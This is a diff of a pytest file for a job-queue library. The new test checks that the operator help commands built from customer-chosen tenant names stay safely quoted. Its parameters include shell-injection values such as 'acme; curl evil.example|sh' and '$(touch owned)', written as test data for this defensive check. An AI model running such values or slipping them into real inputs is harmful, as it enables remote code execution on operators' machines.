@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import inspect
 import re
+import shlex
 from collections.abc import Callable
 from datetime import timedelta
 from typing import Any
@@ -13,6 +14,7 @@ import pytest
 from fairlane import Fairlane, FakeClock, PermissionDenied, tenant
 from fairlane.client.admin import concerns as module
 from fairlane.core.ops import Alert, Renew, SaveAlerts
+from fairlane.errors import QueuePaused
 from fairlane.testing import run_due
 from fairlane.testing.conformance.samples import Making
 
@@ -210,3 +212,22 @@ def test_the_most_urgent_comes_first_and_of_equals_the_oldest(shop: Shop) -> Non
 def test_it_is_for_those_who_see_all_tenants(shop: Shop) -> None:
     with tenant("acme"), pytest.raises(PermissionDenied):
         shop.app.alerts.concerns()
+
+
+@pytest.mark.parametrize("name", ["acme; curl evil.example|sh", "$(touch owned)", "it's", "a b", "`id`"])
+def test_a_tenants_name_stays_one_word_of_the_commands_that_help(shop: Shop, name: str) -> None:
+    """A customer has chosen it, and an operator copies the command."""
+    shop.hire()
+    handle = shop.app.tasks["mail.send"].using(tenant=name).enqueue()
+    shop.app.tenants.pause(name, by="ada")
+    shop.app.limits.set(tenant=name, running=0, by="ada")
+    helps = [one.helps for one in shop.app.alerts.concerns().concerns]
+    helps += [reason.helps for reason in shop.app.jobs.why(handle).reasons if reason.helps]
+    shop.app.tenants.pause(name, by="ada", refuse=True)
+    with pytest.raises(QueuePaused) as refused:
+        shop.send(tenant=name)
+    helps.append(str(refused.value).partition("once it is resumed: ")[2])
+    assert len(helps) == 5
+    for command in helps:
+        assert shlex.split(command)[:2] in (["fairlane", "tenants"], ["fairlane", "limits"])
+        assert name in shlex.split(command)
